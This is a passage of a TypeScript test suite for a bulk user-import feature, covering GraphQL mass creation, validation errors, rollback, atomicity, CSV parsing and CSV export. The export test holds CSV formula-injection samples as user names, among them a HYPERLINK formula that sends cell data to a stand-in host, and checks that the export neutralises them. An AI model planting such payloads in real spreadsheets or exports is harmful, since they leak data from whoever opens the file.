import crypto from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { addUser, codeOf, createTestApp, gql, seedOrg, signedIn } from '../../test/helpers.js';
import { topics } from '../../graphql/pubsub.js';
import { organizations } from '../org/org.tables.js';
import { CSV_UPLOAD_MAX_BYTES } from '../../../shared/limits.js';
import { CSV_COLUMNS, normalizeCsvHeader } from '../../../shared/mass-create.schema.js';
import { massCreationSubscriptions } from './mass-creation.resolvers.js';
import type { MassCreateProgress, MassCreateResult } from './mass-creation.service.js';

let app: FastifyInstance;
beforeAll(async () => { app = await createTestApp(); });
afterAll(async () => { await app.close(); });

const MUTATION = /* GraphQL */ `
  mutation M($rows: [MassCreateUserRow!]!, $dryRun: Boolean, $batch_id: ID, $createTeams: Boolean) {
    massCreateUsers(rows: $rows, dryRun: $dryRun, batch_id: $batch_id, createTeams: $createTeams) {
      batch_id count totalUserWithEmailError usersWithErrors { errorType email row message }
    }
  }`;
const RESULT_QUERY = /* GraphQL */ `query Q($id: ID!) { massCreation(batch_id: $id) { batch_id count totalUserWithEmailError usersWithErrors { errorType email row message } } }`;
const ROLLBACK = /* GraphQL */ `mutation R($id: ID!) { rollbackMassCreation(batch_id: $id) }`;

type Row = Record<string, string | null | undefined>;
type Caller = Awaited<ReturnType<typeof signedIn>>;

/** A fresh organization per test (seedOrg names must differ in letters: they become email domains). */
let orgCounter = 0;
async function freshOrg() {
  orgCounter += 1;
  let n = orgCounter;
  let suffix = '';
  do { suffix = String.fromCharCode(97 + (n % 26)) + suffix; n = Math.floor(n / 26); } while (n > 0);
  const seeded = await seedOrg(app, `Org${suffix}x`);
  const domain = seeded.admin.email.split('@')[1]!;
  const admin = await signedIn(app, seeded.admin.email);
  return { ...seeded, adminUser: seeded.admin, domain, admin };
}

async function massCreate(caller: Caller, rows: Row[], opts: { dryRun?: boolean; batch_id?: string; createTeams?: boolean } = {}) {
  return caller.gql(MUTATION, { rows, ...opts });
}

function result(res: { data: Record<string, any> | null; errors?: unknown }): MassCreateResult {
  expect(res.errors).toBeUndefined();
  return res.data!.massCreateUsers as MassCreateResult;
}

const sqlite = () => app.services.db.$client;
const countUsers = () => (sqlite().prepare('SELECT count(*) AS n FROM users').get() as { n: number }).n;
const countTeams = () => (sqlite().prepare('SELECT count(*) AS n FROM teams').get() as { n: number }).n;
const batchUsers = (batchId: string) => sqlite().prepare('SELECT * FROM users WHERE mass_batch_id = ? ORDER BY email').all(batchId) as Array<Record<string, unknown>>;

function upload(token: string | null, body: string | Buffer, query = '', contentType = 'text/csv') {
  return app.inject({
    method: 'POST', url: `/api/admin/users/import${query}`,
    headers: { 'content-type': contentType, ...(token ? { authorization: `Bearer ${token}` } : {}) },
    payload: body,
  });
}

function get(token: string | null, url: string) {
  return app.inject({ method: 'GET', url, headers: token ? { authorization: `Bearer ${token}` } : {} });
}

describe('massCreateUsers: errors', () => {
  it('reports each error type with its row number (index + 1), email and message', async () => {
    const other = await freshOrg();
    const { admin, domain, report } = await freshOrg();
    sqlite().prepare("UPDATE users SET deleted_at = '2025-01-01T00:00:00Z' WHERE id = ?").run(report.id);
    const d = (local: string) => `${local}@${domain}`;
    const rows: Row[] = [
      { email: d('new1'), full_name: 'New One', team: 'Core', manager_email: d('manager') }, // 1 ok
      { email: 'not-an-email', full_name: 'Bad Email' }, // 2 INVALID_EMAIL
      { email: 'someone@gmail.com', full_name: 'Free Mail' }, // 3 BLOCKED (free provider)
      { email: ` ${d('NEW1').toUpperCase()} `, full_name: 'Again' }, // 4 DUPLICATE_IN_FILE (trim + case)
      { email: d('member'), full_name: 'Exists Here' }, // 5 ALREADY_EXISTS (this org)
      { email: other.member.email, full_name: 'Exists Elsewhere' }, // 6 ALREADY_EXISTS (another org)
      { email: d('tz'), full_name: 'Bad Zone', time_zone: 'Mars/Olympus' }, // 7 INVALID_ROW
      { email: d('self'), full_name: 'Self Managed', manager_email: d('self') }, // 8 INVALID_ROW
      { email: d('orphan'), full_name: 'Orphan', manager_email: d('nobody') }, // 9 UNKNOWN_MANAGER
      { email: d('chain'), full_name: 'Chain', manager_email: d('orphan') }, // 10 UNKNOWN_MANAGER (its manager row fails)
      { email: 'temp@mailinator.com', full_name: 'Disposable' }, // 11 BLOCKED (disposable)
      { email: d('noname'), full_name: '  ' }, // 12 INVALID_ROW
      { email: '', full_name: 'No Email' }, // 13 INVALID_EMAIL
      { email: d('badmgr'), full_name: 'Manager Typo', manager_email: 'not an email' }, // 14 INVALID_ROW
      { email: d('perm'), full_name: 'Bad Level', permission_level: null, role: 'x'.repeat(300) }, // 15 INVALID_ROW
      { email: d('notinorg'), full_name: 'Other Org Manager', manager_email: other.manager.email }, // 16 UNKNOWN_MANAGER
      { email: report.email, full_name: 'Deleted Before' }, // 17 ALREADY_EXISTS (a deleted user keeps the email)
      { email: d('deletedboss'), full_name: 'Deleted Manager', manager_email: report.email }, // 18 UNKNOWN_MANAGER
    ];
    const res = result(await massCreate(admin, rows, { createTeams: false }));
    expect(res.count).toBe(1);
    const brief = res.usersWithErrors.map((e) => [e.row, e.errorType, e.email]);
    expect(brief).toEqual([
      [2, 'INVALID_EMAIL', 'not-an-email'],
      [3, 'BLOCKED_EMAIL_DOMAIN', 'someone@gmail.com'],
      [4, 'DUPLICATE_IN_FILE', d('new1')],
      [5, 'ALREADY_EXISTS', d('member')],
      [6, 'ALREADY_EXISTS', other.member.email],
      [7, 'INVALID_ROW', d('tz')],
      [8, 'INVALID_ROW', d('self')],
      [9, 'UNKNOWN_MANAGER', d('orphan')],
      [10, 'UNKNOWN_MANAGER', d('chain')],
      [11, 'BLOCKED_EMAIL_DOMAIN', 'temp@mailinator.com'],
      [12, 'INVALID_ROW', d('noname')],
      [13, 'INVALID_EMAIL', ''],
      [14, 'INVALID_ROW', d('badmgr')],
      [15, 'INVALID_ROW', d('perm')],
      [16, 'UNKNOWN_MANAGER', d('notinorg')],
      [17, 'ALREADY_EXISTS', report.email],
      [18, 'UNKNOWN_MANAGER', d('deletedboss')],
    ]);
    const message = (row: number) => res.usersWithErrors.find((e) => e.row === row)!.message;
    expect(message(2)).toBe('email: Enter a valid email address.');
    expect(message(3)).toMatch(/work address.*free mail/);
    expect(message(4)).toBe(`email: ${d('new1')} is already in row 1 of this file.`);
    expect(message(5)).toBe(`email: a user with ${d('member')} already exists.`);
    expect(message(7)).toMatch(/^time_zone: Unknown time zone "Mars\/Olympus"/);
    expect(message(8)).toBe('manager_email: A person cannot be their own manager.');
    expect(message(9)).toMatch(new RegExp(`^manager_email: ${d('nobody')} is neither a user of this organization nor a row of this file`));
    expect(message(10)).toBe(`manager_email: ${d('orphan')} (row 9) has an error, so that manager will not be created.`);
    expect(message(11)).toMatch(/disposable/);
    expect(message(12)).toBe('full_name: Enter a name.');
    expect(message(13)).toBe('email: Enter an email address.');
    expect(message(15)).toBe('role: At most 200 characters.');
    expect(message(18)).toBe(`manager_email: ${report.email} (row 17) has an error, so that manager will not be created.`);
    // Email errors: rows 2, 3, 4, 5, 6, 11, 13, 17.
    expect(res.totalUserWithEmailError).toBe(8);
    // Only row 1 was written, with its team and existing manager.
    const created = sqlite().prepare('SELECT u.email, t.name AS team, m.email AS manager FROM users u LEFT JOIN teams t ON t.id = u.team_id LEFT JOIN users m ON m.id = u.manager_id WHERE u.mass_batch_id = ?').all(res.batch_id);
    expect(created).toEqual([{ email: d('new1'), team: 'Core', manager: d('manager') }]);
  });

  it('applies the organization\'s allowed and blocked domain lists', async () => {
    const { admin, org, domain } = await freshOrg();
    app.services.db.update(organizations).set({ allowed_email_domains: ['gmail.com'], blocked_email_domains: ['contractors.example'] }).where(eq(organizations.id, org.id)).run();
    const res = result(await massCreate(admin, [
      { email: 'friend@gmail.com', full_name: 'Allowed Free' },
      { email: 'temp@team.contractors.example', full_name: 'Blocked Sub' },
      { email: `ok@${domain}`, full_name: 'Ok' },
    ], { dryRun: true }));
    expect(res.count).toBe(2);
    expect(res.usersWithErrors).toEqual([{ row: 2, errorType: 'BLOCKED_EMAIL_DOMAIN', email: 'temp@team.contractors.example', message: 'email: team.contractors.example is blocked by this organization.' }]);
    expect(res.totalUserWithEmailError).toBe(1);
  });

  it('is admin only: a member gets FORBIDDEN and an anonymous caller UNAUTHENTICATED, with nothing written', async () => {
    const { member, domain } = await freshOrg();
    const memberCaller = await signedIn(app, member.email);
    const before = countUsers();
    const rows = [{ email: `x@${domain}`, full_name: 'X' }];
    expect(codeOf(await massCreate(memberCaller, rows))).toBe('FORBIDDEN');
    expect(codeOf(await gql(app, null, MUTATION, { rows }))).toBe('UNAUTHENTICATED');
    expect(codeOf(await memberCaller.gql(RESULT_QUERY, { id: crypto.randomUUID() }))).toBe('FORBIDDEN');
    expect(codeOf(await memberCaller.gql(ROLLBACK, { id: crypto.randomUUID() }))).toBe('FORBIDDEN');
    expect(countUsers()).toBe(before);
  });

  it('checks batch_id: a malformed id is BAD_USER_INPUT, a reused one CONFLICT', async () => {
    const { admin, domain } = await freshOrg();
    const rows = [{ email: `b1@${domain}`, full_name: 'B One' }];
    expect(codeOf(await massCreate(admin, rows, { batch_id: 'batch-1' }))).toBe('BAD_USER_INPUT');
    const batch_id = crypto.randomUUID();
    expect(result(await massCreate(admin, rows, { batch_id, dryRun: true })).batch_id).toBe(batch_id);
    const again = await massCreate(admin, [{ email: `b2@${domain}`, full_name: 'B Two' }], { batch_id });
    expect(codeOf(again)).toBe('CONFLICT');
    expect(batchUsers(batch_id)).toHaveLength(0);
  });

  it('refuses an empty list and more than 50,000 rows', async () => {
    const { admin } = await freshOrg();
    expect(codeOf(await massCreate(admin, []))).toBe('BAD_USER_INPUT');
    const { runMassCreation } = await import('./mass-creation.service.js');
    const viewer = { userId: 'u', organizationId: 'o', sessionId: 's', permissionLevel: 'ADMIN' as const, email: 'a@b.c' };
    const rows = Array.from({ length: 50_001 }, (_, i) => ({ row: i + 1, data: { email: `r${i}@x.example`, full_name: 'R' } }));
    await expect(runMassCreation(app.services, viewer, { rows })).rejects.toMatchObject({ code: 'BAD_USER_INPUT' });
  });
});

describe('massCreateUsers: creation', () => {
  it('creates INVITED, unverified users without password, tagged with the batch; they appear in organizationUsers', async () => {
    const { admin, domain } = await freshOrg();
    const batch_id = crypto.randomUUID();
    const res = result(await massCreate(admin, [
      { email: `Ana@${domain}`, full_name: ' Ana Admin ', permission_level: 'ADMIN', role: 'CTO', location: 'Lisbon', time_zone: 'europe/lisbon' },
      { email: `bo@${domain}`, full_name: 'Bo', role: '', location: '' },
    ], { batch_id }));
    expect(res).toEqual({ batch_id, count: 2, usersWithErrors: [], totalUserWithEmailError: 0 });
    const rows = batchUsers(batch_id);
    expect(rows.map((u) => [u.email, u.full_name, u.status, u.email_verified, u.password_hash, u.permission_level, u.role, u.location, u.time_zone])).toEqual([
      [`ana@${domain}`, 'Ana Admin', 'INVITED', 0, null, 'ADMIN', 'CTO', 'Lisbon', 'Europe/Lisbon'],
      [`bo@${domain}`, 'Bo', 'INVITED', 0, null, 'MEMBER', null, null, null],
    ]);
    const list = await admin.gql('{ organizationUsers(status: INVITED) { email status permission_level } }');
    expect(list.data!.organizationUsers).toEqual(expect.arrayContaining([
      { email: `ana@${domain}`, status: 'INVITED', permission_level: 'ADMIN' },
      { email: `bo@${domain}`, status: 'INVITED', permission_level: 'MEMBER' },
    ]));
    // The finished batch's result can be read again.
    expect((await admin.gql(RESULT_QUERY, { id: batch_id })).data!.massCreation).toEqual(res);
  });

  it('a dry run writes no users or teams and answers what the real run then does', async () => {
    const { admin, domain } = await freshOrg();
    const rows: Row[] = [
      { email: `d1@${domain}`, full_name: 'D One', team: 'Dry Team', manager_email: `d2@${domain}` },
      { email: `d2@${domain}`, full_name: 'D Two' },
      { email: 'bad', full_name: 'Bad' },
    ];
    const users = countUsers();
    const teams = countTeams();
    const dry = result(await massCreate(admin, rows, { dryRun: true }));
    expect(countUsers()).toBe(users);
    expect(countTeams()).toBe(teams);
    expect(batchUsers(dry.batch_id)).toHaveLength(0);
    const real = result(await massCreate(admin, rows));
    expect({ ...real, batch_id: '' }).toEqual({ ...dry, batch_id: '' });
    expect(countUsers()).toBe(users + 2);
    expect(countTeams()).toBe(teams + 1);
    expect(codeOf(await admin.gql(ROLLBACK, { id: dry.batch_id }))).toBeUndefined();
  });

  it('links a manager defined later in the same file, and managers who already exist', async () => {
    const { admin, domain, manager } = await freshOrg();
    const res = result(await massCreate(admin, [
      { email: `report@new.${domain}`, full_name: 'Report', manager_email: `lead@new.${domain}` },
      { email: `lead@new.${domain}`, full_name: 'Lead', manager_email: `${manager.email.toUpperCase()}` },
    ]));
    expect(res.count).toBe(2);
    const list = await admin.gql('{ organizationUsers { email manager { email } } }');
    const byEmail = new Map((list.data!.organizationUsers as Array<{ email: string; manager: { email: string } | null }>).map((u) => [u.email, u.manager?.email ?? null]));
    expect(byEmail.get(`report@new.${domain}`)).toBe(`lead@new.${domain}`);
    expect(byEmail.get(`lead@new.${domain}`)).toBe(manager.email);
  });

  it('creates named teams (once, matching names case-insensitively) unless createTeams is false', async () => {
    const { admin, domain } = await freshOrg();
    const refused = result(await massCreate(admin, [
      { email: `t0@${domain}`, full_name: 'T Zero', team: 'core' },
      { email: `t1@${domain}`, full_name: 'T One', team: 'Rockets' },
    ], { createTeams: false, dryRun: true }));
    expect(refused.count).toBe(1);
    expect(refused.usersWithErrors).toEqual([{ row: 2, errorType: 'UNKNOWN_TEAM', email: `t1@${domain}`, message: 'team: there is no team "Rockets" (creating teams was turned off).' }]);

    const res = result(await massCreate(admin, [
      { email: `t1@${domain}`, full_name: 'T One', team: 'Rockets' },
      { email: `t2@${domain}`, full_name: 'T Two', team: 'ROCKETS ' },
      { email: `t3@${domain}`, full_name: 'T Three', team: 'Core' },
    ]));
    expect(res.count).toBe(3);
    const teams = await admin.gql('{ teams { name users { email } } }');
    const rockets = (teams.data!.teams as Array<{ name: string; users: Array<{ email: string }> }>).filter((t) => t.name.toLowerCase() === 'rockets');
    expect(rockets).toHaveLength(1);
    expect(rockets[0]!.name).toBe('Rockets');
    expect(rockets[0]!.users.map((u) => u.email).sort()).toEqual([`t1@${domain}`, `t2@${domain}`]);
  });

  it('creates a new team with the name of a deleted one (the deleted team stays deleted)', async () => {
    const { admin, domain, org } = await freshOrg();
    const oldId = crypto.randomUUID();
    sqlite().prepare("INSERT INTO teams (id, organization_id, name, deleted_at) VALUES (?, ?, 'Old Guard', '2024-01-01T00:00:00Z')").run(oldId, org.id);
    const res = result(await massCreate(admin, [{ email: `og@${domain}`, full_name: 'Og', team: 'old guard' }]));
    expect(res.usersWithErrors).toEqual([]);
    expect(res.count).toBe(1);
    const rows = sqlite().prepare('SELECT id, name, deleted_at FROM teams WHERE organization_id = ? AND lower(name) = ?').all(org.id, 'old guard') as Array<{ id: string; deleted_at: string | null }>;
    expect(rows).toHaveLength(2);
    expect(rows.find((r) => r.id === oldId)?.deleted_at).toBe('2024-01-01T00:00:00Z');
  });

  it('publishes progress every 250 rows and a last event with done: true', async () => {
    const { admin, org, domain } = await freshOrg();
    const batch_id = crypto.randomUUID();
    const events = app.services.pubsub.subscribe<MassCreateProgress>(topics.massCreateProgress(org.id, batch_id));
    const rows = Array.from({ length: 600 }, (_, i) => ({ email: i === 7 ? 'broken' : `p${i}@${domain}`, full_name: `P ${i}` }));
    const res = result(await massCreate(admin, rows, { batch_id }));
    const seen: MassCreateProgress[] = [];
    for (;;) {
      const next = await events.next();
      seen.push(next.value);
      if (next.value.done) break;
    }
    await events.return?.();
    expect(seen.map((e) => e.processed)).toEqual([250, 500, 600]);
    expect(seen[0]).toEqual({ batch_id, processed: 250, total: 600, created: 0, failed: 1, done: false });
    expect(seen.at(-1)).toEqual({ batch_id, processed: 600, total: 600, created: 599, failed: 1, done: true });
    expect(res.count).toBe(599);
  });

  it('the progress subscription is admin only and scoped to the caller\'s organization', async () => {
    const { org, adminUser, member } = await freshOrg();
    const services = app.services;
    const viewer = (id: string, permissionLevel: 'ADMIN' | 'MEMBER') => ({ userId: id, organizationId: org.id, sessionId: 's', permissionLevel, email: 'x@y.z' });
    const sub = massCreationSubscriptions.massCreateProgress;
    expect(() => sub.subscribe(null, { batch_id: crypto.randomUUID() }, { services, viewer: null } as never)).toThrow(expect.objectContaining({ code: 'UNAUTHENTICATED' }));
    expect(() => sub.subscribe(null, { batch_id: crypto.randomUUID() }, { services, viewer: viewer(member.id, 'MEMBER') } as never)).toThrow(expect.objectContaining({ code: 'FORBIDDEN' }));
    const batchId = crypto.randomUUID();
    const iterator = sub.subscribe(null, { batch_id: batchId.toUpperCase() }, { services, viewer: viewer(adminUser.id, 'ADMIN') } as never);
    expect(services.pubsub.listenerCount(topics.massCreateProgress(org.id, batchId))).toBe(1);
    await iterator.return?.();
  });
});

describe('massCreation and rollbackMassCreation', () => {
  it('another organization\'s admin can neither read nor roll back the batch', async () => {
    const mine = await freshOrg();
    const theirs = await freshOrg();
    const res = result(await massCreate(mine.admin, [{ email: `iso@${mine.domain}`, full_name: 'Iso' }]));
    const read = await theirs.admin.gql(RESULT_QUERY, { id: res.batch_id });
    expect(read.errors).toBeUndefined();
    expect(read.data!.massCreation).toBeNull();
    expect(codeOf(await theirs.admin.gql(ROLLBACK, { id: res.batch_id }))).toBe('NOT_FOUND');
    expect(batchUsers(res.batch_id)).toHaveLength(1);
    expect((await mine.admin.gql(RESULT_QUERY, { id: res.batch_id })).data!.massCreation.count).toBe(1);
    expect((await mine.admin.gql(RESULT_QUERY, { id: crypto.randomUUID() })).data!.massCreation).toBeNull();
  });

  it('removes only the batch\'s users who never signed in; the emails can be imported again', async () => {
    const { admin, domain } = await freshOrg();
    const rows = ['r1', 'r2', 'r3'].map((l) => ({ email: `${l}@${domain}`, full_name: l, team: 'Rollback Team' }));
    const first = result(await massCreate(admin, rows));
    const other = result(await massCreate(admin, [{ email: `keep@${domain}`, full_name: 'Keep' }]));
    sqlite().prepare("UPDATE users SET status = 'ACTIVE', last_login = '2025-01-01T00:00:00Z' WHERE email = ?").run(`r2@${domain}`);

    const res = await admin.gql(ROLLBACK, { id: first.batch_id });
    expect(res.errors).toBeUndefined();
    expect(res.data!.rollbackMassCreation).toBe(2);
    expect(batchUsers(first.batch_id).map((u) => u.email)).toEqual([`r2@${domain}`]);
    expect(batchUsers(other.batch_id)).toHaveLength(1);
    const status = sqlite().prepare('SELECT status FROM mass_creation_batches WHERE id = ?').get(first.batch_id) as { status: string };
    expect(status.status).toBe('rolled_back');
    // The team stays; the removed people can be imported again.
    expect((await admin.gql('{ teams { name } }')).data!.teams.map((t: { name: string }) => t.name)).toContain('Rollback Team');
    const again = result(await massCreate(admin, [rows[0]!, rows[2]!]));
    expect(again.count).toBe(2);
  });
});

describe('atomicity', () => {
  const rowsFor = (domain: string) => Array.from({ length: 6 }, (_, i) => ({ email: `atom-${i}@${domain}`, full_name: `Atom ${i}`, team: 'Atomic Team' }));

  it('a unique conflict in the middle of the write leaves nothing of the batch and answers CONFLICT', async () => {
    const { admin, domain, org } = await freshOrg();
    // Someone "else" takes row 5's email while row 3 is being written.
    sqlite().exec(`CREATE TRIGGER mass_conflict AFTER INSERT ON users WHEN NEW.email = 'atom-2@${domain}'
      BEGIN INSERT INTO users (id, organization_id, full_name, email) VALUES ('sneaky-${org.id}', NEW.organization_id, 'Sneaky', 'atom-4@${domain}'); END;`);
    try {
      const users = countUsers();
      const teams = countTeams();
      const batch_id = crypto.randomUUID();
      const res = await massCreate(admin, rowsFor(domain), { batch_id });
      expect(codeOf(res)).toBe('CONFLICT');
      expect(res.errors![0]!.message).toMatch(/Nothing was created/);
      expect(JSON.stringify(res.errors)).not.toMatch(/SQLITE|stack|at .*\.ts/);
      expect(batchUsers(batch_id)).toHaveLength(0);
      expect(countUsers()).toBe(users);
      expect(countTeams()).toBe(teams);
      expect((await admin.gql(RESULT_QUERY, { id: batch_id })).data!.massCreation).toBeNull();
    } finally {
      sqlite().exec('DROP TRIGGER mass_conflict');
    }
  });

  it('any other failure mid-write also leaves nothing and answers a generic error without details', async () => {
    const { admin, domain } = await freshOrg();
    sqlite().exec(`CREATE TRIGGER mass_abort BEFORE INSERT ON users WHEN NEW.email = 'atom-3@${domain}' BEGIN SELECT RAISE(ABORT, 'disk on fire'); END;`);
    try {
      const users = countUsers();
      const batch_id = crypto.randomUUID();
      const res = await massCreate(admin, rowsFor(domain), { batch_id });
      expect(codeOf(res)).toBe('INTERNAL_SERVER_ERROR');
      expect(res.errors![0]!.message).toBe('Internal server error');
      expect(JSON.stringify(res.errors)).not.toMatch(/disk on fire|stack/);
      expect(batchUsers(batch_id)).toHaveLength(0);
      expect(countUsers()).toBe(users);
      // Same through the CSV upload: a clean JSON 500.
      const csv = `email,full_name\n${rowsFor(domain).map((r) => `${r.email},${r.full_name}`).join('\n')}\n`;
      const up = await upload(admin.token, csv);
      expect(up.statusCode).toBe(500);
      expect(up.json()).toMatchObject({ error: 'INTERNAL_SERVER_ERROR', message: 'Internal server error' });
      expect(up.body).not.toMatch(/disk on fire/);
      expect(countUsers()).toBe(users);
    } finally {
      sqlite().exec('DROP TRIGGER mass_abort');
    }
  });
});

describe('CSV upload', () => {
  it('reads mixed-case and aliased headers, a BOM, quoted commas and line breaks, blank and ragged lines', async () => {
    const { admin, domain } = await freshOrg();
    const csv = [
      '\uFEFFE-Mail,Full Name,MANAGER,Team Name,Permission,TimeZone,Notes', // row 1 (an unknown column is ignored)
      `c1@${domain},"Doe, Jane",c2@${domain},Csv Team,manager,Europe/Paris,hello`, // row 2
      '', // row 3: blank
      `c2@${domain},"Multi`, // row 4: a cell with a line break (one spreadsheet row)
      `Line",,Csv Team,,,`, //
      `c3@${domain},Ragged`, // row 5: too few cells
      ',,,,,,', // row 6: empty cells only, skipped
      `c1@${domain},Twice,,,,,`, // row 7: duplicate
      `c4@${domain},Extra Empty,,,,,,,,`, // row 8: extra empty cells are tolerated
      `c5@${domain},Extra Full,,,,,,surprise`, // row 9: extra non-empty cell
    ].join('\r\n');
    const res = await upload(admin.token, csv, '?createTeams=true');
    expect(res.statusCode).toBe(200);
    const body = res.json() as MassCreateResult;
    expect(body.count).toBe(3);
    expect(body.usersWithErrors.map((e) => [e.row, e.errorType, e.email])).toEqual([
      [5, 'INVALID_ROW', `c3@${domain}`],
      [7, 'DUPLICATE_IN_FILE', `c1@${domain}`],
      [9, 'INVALID_ROW', `c5@${domain}`],
    ]);
    expect(body.usersWithErrors[0]!.message).toBe('This row has 2 cells but the header has 7; check for a missing or extra separator.');
    expect(body.totalUserWithEmailError).toBe(1);
    const created = batchUsers(body.batch_id);
    expect(created.map((u) => [u.email, u.full_name, u.permission_level, u.time_zone])).toEqual([
      [`c1@${domain}`, 'Doe, Jane', 'MANAGER', 'Europe/Paris'],
      [`c2@${domain}`, 'Multi\r\nLine', 'MEMBER', null],
      [`c4@${domain}`, 'Extra Empty', 'MEMBER', null],
    ]);
    expect(created[0]!.manager_id).toBe(created[1]!.id);
    // The same result through GraphQL.
    expect((await admin.gql(RESULT_QUERY, { id: body.batch_id })).data!.massCreation).toEqual(body);
  });

  it('decodes UTF-8 characters that straddle the parser\'s 64 KiB chunks', async () => {
    const { admin, domain } = await freshOrg();
    const bytes = (text: string) => Buffer.byteLength(text);
    const header = 'email,full_name\n';
    const prefix = `zoe@${domain},Zo`;
    const target = 65_535 - bytes(prefix); // where the prefix must start, so "ë" starts at byte 65,535
    const filler: string[] = [];
    let size = bytes(header);
    for (let i = 0; target - size > 200; i++) {
      const line = `f${i}@${domain},Filler ${i}\n`;
      filler.push(line);
      size += bytes(line);
    }
    for (const [i, last] of [[0, false], [1, true]] as const) {
      const head = `pad${i}@${domain},`;
      const nameLength = last ? target - size - bytes(head) - 1 : 60;
      filler.push(`${head}${'p'.repeat(nameLength)}\n`);
      size += bytes(head) + nameLength + 1;
    }
    const csv = `${header}${filler.join('')}${prefix}ë Ünïcødé\n`;
    expect(Buffer.from(csv).indexOf(Buffer.from('ë'))).toBe(65_535);
    const res = await upload(admin.token, csv);
    expect(res.statusCode).toBe(200);
    expect(res.json().usersWithErrors).toEqual([]);
    const row = sqlite().prepare('SELECT full_name FROM users WHERE email = ?').get(`zoe@${domain}`) as { full_name: string };
    expect(row.full_name).toBe('Zoë Ünïcødé');
  });

  it('honours dryRun, batch_id and createTeams=false, and accepts ";" separated files', async () => {
    const { admin, domain } = await freshOrg();
    const batch_id = crypto.randomUUID();
    const users = countUsers();
    const res = await upload(admin.token, `email;full_name;team\ns1@${domain};"Semi; Colon";Nowhere\ns2@${domain};S Two;\n`, `?dryRun=true&createTeams=false&batch_id=${batch_id}`, 'text/csv; charset=utf-8');
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      batch_id, count: 1, totalUserWithEmailError: 0,
      usersWithErrors: [{ row: 2, errorType: 'UNKNOWN_TEAM', email: `s1@${domain}`, message: 'team: there is no team "Nowhere" (creating teams was turned off).' }],
    });
    expect(countUsers()).toBe(users);
    expect((await upload(admin.token, 'email,full_name\nx@y.example,X\n', `?batch_id=${batch_id}`)).statusCode).toBe(409);
    expect((await upload(admin.token, 'email,full_name\nx@y.example,X\n', '?dryRun=maybe')).statusCode).toBe(400);
  });

  it('a malformed file is a 400 naming the line, and nothing is written', async () => {
    const { admin, domain } = await freshOrg();
    const users = countUsers();
    const batches = (sqlite().prepare('SELECT count(*) AS n FROM mass_creation_batches').get() as { n: number }).n;
    const res = await upload(admin.token, `email,full_name\nm1@${domain},Fine\nm2@${domain},"Unclosed\nm3@${domain},Three\n`);
    expect(res.statusCode).toBe(400);
    const body = res.json();
    expect(body.error).toBe('BAD_USER_INPUT');
    expect(body.message).toMatch(/not valid CSV.*after line 2.*never closed/);
    expect(body.line).toBe(4);
    const quote = await upload(admin.token, `email,full_name\nm1@${domain},"Bad"quote\n`);
    expect(quote.statusCode).toBe(400);
    expect(quote.json().message).toMatch(/line 2/);
    expect(countUsers()).toBe(users);
    expect((sqlite().prepare('SELECT count(*) AS n FROM mass_creation_batches').get() as { n: number }).n).toBe(batches);
  });

  it('refuses a header without required columns, an empty file, and more than 50,000 rows', async () => {
    const { admin } = await freshOrg();
    const missing = await upload(admin.token, 'mail address,role\nx@y.example,Dev\n');
    expect(missing.statusCode).toBe(400);
    expect(missing.json().message).toMatch(/lacks the column full_name/);
    expect(missing.json().missing).toEqual(['full_name']);
    const none = await upload(admin.token, 'role,team\n');
    expect(none.json().missing).toEqual(['email', 'full_name']);
    expect((await upload(admin.token, 'email,name,Full Name\n')).json().message).toMatch(/full_name more than once/);
    expect((await upload(admin.token, '')).statusCode).toBe(400);
    expect((await upload(admin.token, 'email,full_name\n')).json().message).toMatch(/no data rows/);
    const users = countUsers();
    const many = `email,full_name\n${Array.from({ length: 50_001 }, (_, i) => `u${i}@many.example,U`).join('\n')}\n`;
    const res = await upload(admin.token, many);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toMatch(/more than 50,000 rows/);
    expect(countUsers()).toBe(users);
  });

  it('answers 413 over the size limit, 415 for other content types, 401 without token and 403 for a member', async () => {
    const { admin, member, domain } = await freshOrg();
    const memberCaller = await signedIn(app, member.email);
    const csv = `email,full_name\nz@${domain},Z\n`;
    const big = await upload(admin.token, Buffer.alloc(CSV_UPLOAD_MAX_BYTES + 1, 'a'));
    expect(big.statusCode).toBe(413);
    expect(big.json().error).toBe('PAYLOAD_TOO_LARGE');
    for (const type of ['application/json', 'text/plain', 'application/octet-stream', 'multipart/form-data; boundary=x']) {
      const res = await upload(admin.token, type === 'application/json' ? JSON.stringify({ csv }) : csv, '', type);
      expect(res.statusCode, type).toBe(415);
      expect(res.json().error).toBe('UNSUPPORTED_MEDIA_TYPE');
    }
    const anon = await upload(null, csv);
    expect(anon.statusCode).toBe(401);
    expect(anon.json()).toEqual({ error: 'UNAUTHENTICATED', message: 'Sign in to continue.' });
    expect((await upload('garbage', csv)).statusCode).toBe(401);
    const forbidden = await upload(memberCaller.token, csv);
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().error).toBe('FORBIDDEN');
    expect((sqlite().prepare('SELECT count(*) AS n FROM users WHERE email = ?').get(`z@${domain}`) as { n: number }).n).toBe(0);
  });
});

describe('CSV export and template', () => {
  it('exports the organization\'s users with formula cells neutralised and odd values intact', async () => {
    const mine = await freshOrg();
    const theirs = await freshOrg();
    const tricky = [
      '=1+2";=1+2', '+SUM(A1)', '-2+3', '@cmd', '\tTabbed', '\rReturn', '\nNewline', '\0Nul',
      'a,=HYPERLINK("http://x?"&A1)', 'a;=HYPERLINK("http://x?"&A1)', 'Two\nLines, "quoted"',
    ];
    const emails: string[] = [];
    for (const [i, name] of tricky.entries()) {
      const u = await addUser(app, mine.org.id, { email: `t${i}@${mine.domain}`, full_name: name, manager_id: mine.manager.id, team_id: mine.team.id });
      emails.push(u.email);
    }
    const res = await get(mine.admin.token, '/api/admin/users/export.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="teamlens-users-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.body).toContain('"\'=1+2"";=1+2"');
    expect(res.body).toContain('"a,=HYPERLINK(""http://x?""&A1)"');

    const records = parse(res.body, { bom: true, columns: true }) as Array<Record<string, string>>;
    const header = (parse(res.body, { bom: true, to_line: 1 }) as string[][])[0];
    expect(header).toEqual([...CSV_COLUMNS, 'status', 'created_at', 'last_login']);
    const byEmail = new Map(records.map((r) => [r.email!, r]));
    // Only this organization's people: 4 seeded + the tricky ones; none of the other org.
